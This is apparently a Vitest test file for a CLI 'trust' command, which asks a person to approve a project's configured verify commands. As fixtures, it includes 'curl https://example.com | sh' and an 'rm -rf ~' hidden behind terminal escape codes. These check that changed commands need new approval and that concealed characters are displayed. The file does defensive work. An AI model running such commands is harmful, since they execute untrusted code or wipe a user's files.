import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { run } from '../../src/bin/trust.ts';
import { createTrust } from '../../src/platform/trust.ts';

let base: string;
let root: string;
let env: NodeJS.ProcessEnv;
beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'trust-command-')));
  root = join(base, 'project');
  mkdirSync(join(root, '.code-intel'), { recursive: true });
  env = { CODE_INTEL_CONFIG_DIR: join(base, 'config') };
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

const configure = (text: unknown) =>
  writeFileSync(
    join(root, '.code-intel', 'config.json'),
    typeof text === 'string' ? text : JSON.stringify(text),
  );
const allows = (commands: readonly string[]) =>
  createTrust({ root, env, notice: () => {} }).allows('verify.commands', commands);

/** Runs the command; `typed` is what the person at the terminal types, null: there is no terminal. */
async function trust(args: readonly string[], typed: string | null = null, cwd = root) {
  const stdin = new PassThrough();
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  if (typed !== null) stdin.end(typed);
  const status = await run(args, { stdin, stdout, stderr, isTTY: typed !== null, env, cwd });
  return { status, out: String(stdout.read() ?? ''), err: String(stderr.read() ?? '') };
}

const commands = ['npm test', 'npm run lint -- --max-warnings 0'];

describe('code-intel trust', () => {
  test('shows the exact commands and allows them when the person says yes', async () => {
    configure({ verify: { commands } });
    const { status, out, err } = await trust([], 'y\n');
    expect([status, err]).toEqual([0, '']);
    for (const command of commands) expect(out).toContain(`\n  ${command}\n`);
    expect(out).toContain(root);
    expect(out).toContain('Allow exactly these commands? [y/N]');
    expect(out).toContain(join(base, 'config', 'trust.json'));
    expect(await allows(commands)).toBe(true);
    expect(await allows(['npm test'])).toBe(false);
  });

  test.each(['n\n', '\n', '', 'yep\n', 'いいえ\n'])('the answer %j allows nothing', async (typed) => {
    configure({ verify: { commands } });
    const { status, out } = await trust([], typed);
    expect(status).toBe(1);
    expect(out).toContain('Nothing was allowed.');
    expect(await allows(commands)).toBe(false);
  });

  test('without a terminal it allows nothing, shows the commands, and says how', async () => {
    configure({ verify: { commands } });
    const { status, out, err } = await trust([]);
    expect(status).toBe(2);
    expect(out).toContain('  npm test\n');
    expect(err).toContain(`\`node ${join(process.cwd(), 'dist', 'code-intel.js')} trust --yes\``);
    expect(await allows(commands)).toBe(false);
  });

  test('--yes allows without asking, and a second time says that it is allowed already', async () => {
    configure({ verify: { commands } });
    expect((await trust(['--yes'])).status).toBe(0);
    expect(await allows(commands)).toBe(true);
    const again = await trust([]);
    expect(again.status).toBe(0);
    expect(again.out).toContain('already allowed');
  });

  test('a changed command has to be allowed again', async () => {
    configure({ verify: { commands } });
    await trust(['--yes']);
    configure({ verify: { commands: ['npm test', 'curl https://example.com | sh'] } });
    const { status, out } = await trust([]);
    expect(status).toBe(2);
    expect(out).toContain('  curl https://example.com | sh\n');
  });

  test.each([undefined, {}, { verify: { commands: [] } }])(
    'with %j there is nothing to allow',
    async (config) => {
      if (config !== undefined) configure(config);
      const { status, out } = await trust(['--yes']);
      expect(status).toBe(0);
      expect(out).toContain('Nothing to allow');
    },
  );

  test.each([
    ['a broken file', '{'],
    ['commands that are no list', { verify: { commands: 'npm test' } }],
    ['a misspelt key', { verify: { comands: commands } }],
  ])('%s is told and is not taken for nothing', async (_, config) => {
    configure(config);
    const { status, out, err } = await trust(['--yes']);
    expect([status, out]).toEqual([1, '']);
    expect(err).toContain('config.json');
  });

  test('what a terminal would obey or hide is shown as it is', async () => {
    configure({ verify: { commands: ['rm -rf ~\u001b[2K\rnpm test', 'npm\u00a0test \u202e# \u200b\n:'] } });
    const { out } = await trust([]);
    expect(out).toContain('  rm -rf ~\\u{1b}[2K\\u{d}npm test\n');
    expect(out).toContain('  npm\\u{a0}test \\u{202e}# \\u{200b}\\u{a}:\n');
  });

  test('the project is CLAUDE_PROJECT_DIR where it is set', async () => {
    configure({ verify: { commands } });
    env = { ...env, CLAUDE_PROJECT_DIR: root };
    expect((await trust(['--yes'], null, base)).status).toBe(0);
    expect(await allows(commands)).toBe(true);
  });

  test('it speaks the language of the project', async () => {
    configure({ language: 'ja', verify: { commands } });
    const { out } = await trust([], 'はい\n');
    expect(out).toContain('このとおりのコマンドを許可しますか');
    expect(await allows(commands)).toBe(true);
  });

  test('a configuration folder inside the project is refused', async () => {
    configure({ verify: { commands } });
    env = { CODE_INTEL_CONFIG_DIR: join(root, 'config') };
    const { status, err } = await trust(['--yes']);
    expect(status).toBe(1);
    expect(err).toContain('lies inside the project');
  });

  test('a damaged record is told, kept aside, and begun anew', async () => {
    configure({ verify: { commands } });
    mkdirSync(join(base, 'config'));
    writeFileSync(join(base, 'config', 'trust.json'), '{{');
    const { status, err } = await trust(['--yes']);
    expect(status).toBe(0);
    expect(err).toContain('trust.json.corrupt');
    expect(readFileSync(join(base, 'config', 'trust.json.corrupt'), 'utf8')).toBe('{{');
    expect(await allows(commands)).toBe(true);
  });

  test('an unknown argument is refused with the usage; --help gives it', async () => {
    const { status, err } = await trust(['--force']);
    expect(status).toBe(2);
    expect(err).toContain('Unknown argument: --force');
    expect(err).toContain('code-intel trust [--yes]');
    expect((await trust(['--help'])).out).toContain('code-intel trust [--yes]');
  });
});
